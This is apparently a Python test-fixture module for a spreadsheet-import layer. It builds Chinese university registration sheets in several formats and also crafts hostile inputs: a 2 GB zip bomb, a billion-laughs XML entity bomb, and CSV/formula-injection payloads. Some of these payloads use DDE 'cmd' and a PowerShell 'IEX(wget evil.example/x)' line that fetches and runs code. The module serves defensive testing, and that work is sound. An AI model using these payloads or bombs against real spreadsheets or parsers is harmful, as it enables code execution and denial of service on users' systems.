"""Sheets built the way units fill them in, and hostile files, for the sheet-layer tests.

Workbooks are built with other libraries than the one we read with (XlsxWriter, xlwt,
odfpy, the csv module), from a grid of values plus merged areas, so the reader is tested
against files as Excel / WPS / LibreOffice write them. The PDSU 附件2 / 附件3 and HNWU
清查表 grids follow the seed notices: a title, the "报送单位（负责人签字加盖公章）：…汇总时间"
line, a header with line breaks, a 管理单位 cell merged over several rows, pre-numbered
empty rows, a 合计 row and the 备注 lines.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from typing import Any

from beian.core.sheets import Column, Layout

Merge = tuple[int, int, int, int]  # first_row, first_col, last_row, last_col (0-based)


@dataclass
class Grid:
    """Cell values (None = empty) and merged areas; the value of a merged area sits in its
    top-left cell, the other cells of the area are None."""

    rows: list[list[Any]]
    merges: list[Merge] = field(default_factory=list)
    name: str = "Sheet1"

    @property
    def width(self) -> int:
        return max((len(row) for row in self.rows), default=0)


# ------------------------------------------------------------------------------ writers


def to_xlsx(*grids: Grid) -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"strings_to_numbers": False})
    date_format = workbook.add_format({"num_format": "yyyy-mm-dd"})
    wrap = workbook.add_format({"text_wrap": True})
    for grid in grids:
        sheet = workbook.add_worksheet(grid.name)
        merged_cells = set()
        for r0, c0, r1, c1 in grid.merges:
            value = grid.rows[r0][c0] if c0 < len(grid.rows[r0]) else None
            sheet.merge_range(r0, c0, r1, c1, "" if value is None else value, wrap)
            merged_cells.update((r, c) for r in range(r0, r1 + 1) for c in range(c0, c1 + 1))
        for r, row in enumerate(grid.rows):
            for c, value in enumerate(row):
                if value is None or (r, c) in merged_cells:
                    continue
                if isinstance(value, dt.date):
                    sheet.write_datetime(r, c, value, date_format)
                elif isinstance(value, str):
                    sheet.write_string(r, c, value, wrap if "\n" in value else None)
                else:
                    sheet.write(r, c, value)
    workbook.close()
    return buffer.getvalue()


def to_xls(*grids: Grid) -> bytes:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    date_style = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    for grid in grids:
        sheet = book.add_sheet(grid.name)
        merged_cells = set()
        for r0, c0, r1, c1 in grid.merges:
            value = grid.rows[r0][c0]
            sheet.write_merge(r0, r1, c0, c1, "" if value is None else value)
            merged_cells.update((r, c) for r in range(r0, r1 + 1) for c in range(c0, c1 + 1))
        for r, row in enumerate(grid.rows):
            for c, value in enumerate(row):
                if value is None or (r, c) in merged_cells:
                    continue
                if isinstance(value, dt.date):
                    sheet.write(r, c, value, date_style)
                else:
                    sheet.write(r, c, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def to_ods(*grids: Grid) -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import CoveredTableCell, Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    for grid in grids:
        table = Table(name=grid.name)
        spans = {(r0, c0): (r1 - r0 + 1, c1 - c0 + 1) for r0, c0, r1, c1 in grid.merges}
        covered = {
            (r, c)
            for r0, c0, r1, c1 in grid.merges
            for r in range(r0, r1 + 1)
            for c in range(c0, c1 + 1)
            if (r, c) != (r0, c0)
        }
        for r, row in enumerate(grid.rows):
            table_row = TableRow()
            for c in range(grid.width):
                value = row[c] if c < len(row) else None
                if (r, c) in covered:
                    table_row.addElement(CoveredTableCell())
                    continue
                options: dict[str, Any] = {}
                if (r, c) in spans:
                    options["numberrowsspanned"] = spans[(r, c)][0]
                    options["numbercolumnsspanned"] = spans[(r, c)][1]
                if value is None:
                    cell = TableCell(**options)
                elif isinstance(value, dt.date):
                    cell = TableCell(valuetype="date", datevalue=value.isoformat(), **options)
                    cell.addElement(P(text=value.isoformat()))
                elif isinstance(value, int | float):
                    cell = TableCell(valuetype="float", value=value, **options)
                    cell.addElement(P(text=str(value)))
                else:
                    cell = TableCell(valuetype="string", **options)
                    for line in str(value).split("\n"):
                        cell.addElement(P(text=line))
                table_row.addElement(cell)
            table.addElement(table_row)
        document.spreadsheet.addElement(table)
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


def to_csv(grid: Grid, encoding: str = "utf-8-sig", delimiter: str = ",") -> bytes:
    """As Excel's "save as CSV" does: a merged area keeps its value in the first cell."""
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter, lineterminator="\r\n")
    for row in grid.rows:
        writer.writerow(["" if value is None else _csv_value(value) for value in row])
    return text.getvalue().encode(encoding)


def _csv_value(value: Any) -> str:
    if isinstance(value, dt.date):
        return value.strftime("%Y/%m/%d")
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


# ------------------------------------------------------------------------ seed layouts

ACCOUNTS = Layout(
    title="新媒体账号信息汇总表",
    columns=(
        Column("seq", "序号", serial=True),
        Column("unit", "管理单位", required=True, fill_down=True),
        Column("tier", "账号分级"),
        Column("platform", "账号类型", aliases=("平台", "媒体平台"), required=True),
        Column("name", "账号名称", required=True),
        Column("address", "账号或网址", aliases=("网址", "账号")),
        Column("created", "创建时间"),
        Column("verified", "认证时间"),
        Column("audience", "关注人数", aliases=("粉丝数", "粉丝量")),
        Column("frequency", "更新频率"),
        Column("teacher", "负责老师", aliases=("负责老师姓名",)),
        Column("teacher_phone", "负责老师电话"),
        Column("student", "负责学生", aliases=("负责学生姓名",)),
        Column("student_phone", "负责学生电话"),
    ),
)

GROUPS = Layout(
    title="即时群聊工具备案汇总表",
    columns=(
        Column("seq", "序号", serial=True),
        Column("unit", "管理单位", required=True, fill_down=True),
        Column("platform", "群聊平台", required=True),
        Column("name", "群名称", required=True),
        Column("purpose", "群性质"),
        Column("members", "群人数"),
        Column("has_outsiders", "有无校外人员"),
        Column("outsiders", "校外人员人数"),
        Column("created", "创建时间"),
        Column("creator", "创建人"),
        Column("creator_phone", "创建人电话"),
    ),
)

INVENTORY = Layout(
    title="官方微博/微信公众号/抖音/视频号清查表",
    columns=(
        Column("seq", "序号", serial=True),
        Column("unit", "单位名称", required=True, fill_down=True),
        Column("account", "微信公众号/微博/抖音名称、账号", required=True),
        Column("responsible", "责任人"),
        Column("admin", "管理员"),
        Column("filed", "是否备案"),
    ),
)

ACCOUNT_HEADERS = [
    "序号",
    "管理单位",
    "账号\n分级",
    "账号\n类型",
    "账号\n名称",
    "账号或网址",
    "创建\n时间",
    "认证\n时间",
    "关注\n人数",
    "更新\n频率",
    "负责\n老师",
    "负责老师\n电话",
    "负责\n学生",
    "负责学生\n电话",
]
TRADITIONAL_ACCOUNT_HEADERS = [
    "序號",
    "管理單位",
    "帳號\n分級",
    "賬號\n類型",
    "賬號\n名稱",
    "賬號或網址",
    "創建\n時間",
    "認證\n時間",
    "關注\n人數",
    "更新\n頻率",
    "負責\n老師",
    "負責老師\n電話",
    "負責\n學生",
    "負責學生\n電話",
]
SUBMITTER = "报送单位（负责人签字加盖公章）：计算机学院                    汇总时间：2022年2月20日"

# The data rows a unit typed (values as they come out of Excel), and what they mean.
ACCOUNT_ROWS = [
    [1, "计算机学院", "二级", "微信公众号", "平顶山学院计算机学院", "pdsujsj", "2019年3月",
     "2020.05", 1.2, "1次/日", "张老师", "138 0013 8000", "李同学", "139-0013-9000"],
    [2, None, "三级", "微博", "计院青年", "https://weibo.com/u/123", 2019.03, None, 0.35,
     "2-3次/周", "王老师", "+86 13800138001", None, None],
    [3, None, "三级", "抖音", "计院小喇叭", "douyin_jy", dt.date(2021, 5, 1), None, "1.2万",
     "1次/周", "赵老师", "13800138002", "钱同学", "13900139002"],
    [4, "文学院", "二级", "视频号", "平顶山学院文学院", "wxy", "201903", "2020-06", 12000,
     "1次/日", "孙老师", "0375-2657625", None, None],
]  # fmt: skip


def pdsu_accounts(
    *,
    traditional: bool = False,
    shuffled: bool = False,
    two_row_header: bool = False,
    fill_by_merge: bool = True,
) -> Grid:
    """附件2 新媒体账号信息汇总表 as a unit returns it. 计算机学院 is merged over its three
    rows (or, with `fill_by_merge=False`, typed once and left blank below)."""
    headers = list(TRADITIONAL_ACCOUNT_HEADERS if traditional else ACCOUNT_HEADERS)
    data = [list(row) for row in ACCOUNT_ROWS]
    width = len(headers)
    rows: list[list[Any]] = [
        ["平顶山学院新媒体账号信息汇总表"] + [None] * (width - 1),
        [SUBMITTER] + [None] * (width - 1),
    ]
    merges: list[Merge] = [(0, 0, 0, width - 1), (1, 0, 1, width - 1)]
    if two_row_header:
        # 负责老师 / 负责学生 as group headers over 姓名 | 电话; the other headers span
        # both rows.
        upper = headers[:10] + ["负责老师", None, "负责学生", None]
        lower = [None] * 10 + ["姓名", "电话", "姓名", "电话"]
        rows += [upper, lower]
        merges += [(2, c, 3, c) for c in range(10)] + [(2, 10, 2, 11), (2, 12, 2, 13)]
    else:
        rows.append(headers)
    first = len(rows)
    rows += data
    if fill_by_merge:
        merges.append((first, 1, first + 2, 1))
    rows += [[5] + [None] * (width - 1), [6] + [None] * (width - 1)]
    rows.append(["合计", None, None, None, None, None, None, None, 14.75] + [None] * 5)
    remarks = [
        "备注：1．新媒体账号指本单位管理范围内所有新媒体平台；",
        "2．帐号分级：学校官方帐号为一级平台……",
        "6.关注人数以万为单位。",
    ]
    for remark in remarks:
        merges.append((len(rows), 0, len(rows), width - 1))
        rows.append([remark] + [None] * (width - 1))
    grid = Grid(rows=rows, merges=merges, name="附件2")
    if shuffled:
        assert not two_row_header, "shuffle a single-row header only"
        grid = permute_columns(grid, SHUFFLED, range(2, first + len(data) + 3))
    return grid


# The column order of a shuffled 附件2: 序号, 账号名称, 账号类型, 管理单位, 负责学生电话, …
SHUFFLED = [0, 4, 3, 1, 13, 12, 11, 10, 9, 8, 7, 6, 5, 2]


def permute_columns(grid: Grid, order: list[int], rows: range) -> Grid:
    """Columns reordered (new column i holds old column order[i]) in `rows`; vertical
    merges there move with their column."""
    new_rows = [
        [row[c] if c < len(row) else None for c in order] if index in rows else list(row)
        for index, row in enumerate(grid.rows)
    ]
    merges = []
    for r0, c0, r1, c1 in grid.merges:
        if r0 in rows and c0 == c1:
            c0 = c1 = order.index(c0)
        merges.append((r0, c0, r1, c1))
    return Grid(rows=new_rows, merges=merges, name=grid.name)


def pdsu_groups() -> Grid:
    """附件3 即时群聊工具备案汇总表, with full-width serial numbers as in the seed."""
    headers = [
        "序号", "管理单位", "群聊\n平台", "群名称", "群性质", "群人数", "有无校\n外人员",
        "校外人\n员人数", "创建时间", "创建人", "创建人\n电话",
    ]  # fmt: skip
    width = len(headers)
    rows: list[list[Any]] = [
        ["平顶山学院即时群聊工具备案汇总表"] + [None] * (width - 1),
        [SUBMITTER + "\u3000" * 20] + [None] * (width - 1),
        headers,
        ["１", "计算机学院", "微信群", "计院2022级辅导员群", "工作", "200人", "无", None,
         "2022.9", "张老师", "13800138000"],
        ["２", "计算机学院", "QQ群", "计院学生干部群", "学生管理", "约150", "有", "3",
         "2021年9月", "李老师", "13800138001"],
        ["３", "计算机学院", "钉钉群", "计院教研室", "教学", "45余人", "×", "",
         dt.date(2020, 3, 1), "王老师", "13800138002"],
        [None] * width,
        ["备注：１. 本表只备案用于工作、教学、科研等非私人性质群聊工具。"] + [None] * (width - 1),
        ["\u3000\u3000\u3000２. 群聊平台是指微信群、QQ群、钉钉群或其它。"] + [None] * (width - 1),
    ]  # fmt: skip
    merges = [(0, 0, 0, width - 1), (1, 0, 1, width - 1), (7, 0, 7, width - 1)]
    return Grid(rows=rows, merges=merges, name="附件3")


def hnwu_inventory() -> Grid:
    """湖南女子学院 清查表: title in the second row, empty numbered rows to 12."""
    rows: list[list[Any]] = [
        [None] * 6,
        ["官方微博/微信公众号/抖音/视频号清查表"] + [None] * 5,
        ["序号", "单位名称", "微信公众号/微博/抖音名称、账号", "责任人", "管理员", "是否备案"],
        [1, "党委宣传统战部", "湖南女子学院（hnwu_official）", "王丽华", "李四", "√"],
        [2, "党委宣传统战部", "湖南女子学院官方微博", "王丽华", "张三", "已备案"],
        [3, "艺术设计学院", "湘女艺设（抖音）", "刘书记", "陈五", "否"],
    ]
    rows += [[n] + [None] * 5 for n in range(4, 13)]
    return Grid(rows=rows, merges=[(1, 0, 1, 5)], name="清查表")


# ------------------------------------------------------------------------ hostile files


@dataclass
class RawEntry:
    """A zip entry written exactly as given: compressed bytes, CRC and declared size."""

    name: str
    compressed: bytes
    crc: int
    declared_size: int
    method: int = zipfile.ZIP_DEFLATED


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def entry(name: str, data: bytes) -> RawEntry:
    return RawEntry(name, deflate(data), zlib.crc32(data), len(data))


def deflated_zeros(size: int, chunk: int = 1 << 20) -> bytes:
    """A raw deflate stream of `size` zero bytes, built in milliseconds and ~size/1000
    bytes of memory: after a full flush the compressor forgets its history, so every
    further megabyte of zeros compresses to the same bytes, which are repeated."""
    assert size % chunk == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(chunk)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    steady = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert steady == again
    return first + steady * (size // chunk - 1) + compressor.flush(zlib.Z_FINISH)


def craft_zip(entries: list[RawEntry]) -> bytes:
    """A zip file from raw entries (local headers, data, central directory, end record)."""
    out = io.BytesIO()
    central = []
    for item in entries:
        name = item.name.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0x800,
                item.method,
                0,
                0x21,
                item.crc,
                len(item.compressed),
                item.declared_size,
                len(name),
                0,
            )  # fmt: skip
        )
        out.write(name)
        out.write(item.compressed)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0x800,
                item.method,
                0,
                0x21,
                item.crc,
                len(item.compressed),
                item.declared_size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )  # fmt: skip
            + name
        )
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), size, start, 0)
    )
    return out.getvalue()


def xlsx_parts(xlsx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def small_xlsx() -> bytes:
    return to_xlsx(Grid(rows=[["序号", "管理单位"], [1, "计算机学院"]]))


def xlsx_with_part(name: str, data: bytes | RawEntry) -> bytes:
    """small_xlsx() with one part replaced (or added)."""
    parts = xlsx_parts(small_xlsx())
    entries = [entry(part, content) for part, content in parts.items() if part != name]
    entries.append(data if isinstance(data, RawEntry) else entry(name, data))
    return craft_zip(entries)


def zip_bomb(size: int = 2 * 1024**3, declared: int | None = None) -> bytes:
    """An .xlsx whose sheet1.xml inflates to `size` bytes of zeros (2 GB by default, ~2 MB
    on disk). With `declared`, the headers lie and announce that many bytes instead."""
    stream = deflated_zeros(size)
    raw = RawEntry("xl/worksheets/sheet1.xml", stream, 0, size if declared is None else declared)
    return xlsx_with_part("xl/worksheets/sheet1.xml", raw)


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def entity_bomb_xlsx(padding: int = 0) -> bytes:
    """An .xlsx whose sheet1.xml is a billion-laughs document (after `padding` bytes of
    white space, to push the DOCTYPE past the first read)."""
    xml = BILLION_LAUGHS
    if padding:
        # Random white space: it compresses only ~4:1, so the ratio check lets it through
        # and the DOCTYPE has to be found by the streaming scan, megabytes in.
        spaces = os.urandom(padding).translate(bytes(b" \t\r\n"[i % 4] for i in range(256)))
        declaration, rest = xml.split(b"\n", 1)
        xml = declaration + b"\n" + spaces + rest
    return xlsx_with_part("xl/worksheets/sheet1.xml", xml)


def many_entries_zip(count: int = 10_000) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", xlsx_parts(small_xlsx())["[Content_Types].xml"])
        for number in range(count):
            archive.writestr(f"xl/media/image{number}.png", b"x")
    return buffer.getvalue()


def far_cell_xlsx() -> bytes:
    """Two cells, A1 and XFD1048576: calamine would allocate a 17-billion-cell grid."""
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, "序号")
    sheet.write(1_048_575, 16_383, "x")
    workbook.close()
    return buffer.getvalue()


def ole2_with_streams(names: list[str]) -> bytes:
    """An OLE2 compound-file header and one directory sector naming `names` (enough for
    the type check, which looks for the stream names; not a full compound file)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    directory = b""
    for name in ["Root Entry", *names]:
        encoded = (name + "\0").encode("utf-16-le")
        directory += encoded + bytes(128 - len(encoded))
    return header + directory + bytes(-len(directory) % 512)


FAKE_PDF = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Length 44 >>\nstream\n\x00\x01\x02\xff\xfe\nendstream\nendobj\n%%EOF\n"
)

FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+86 13800138000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''already quoted",
    "'plain quote",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    "计算机学院=好",
]
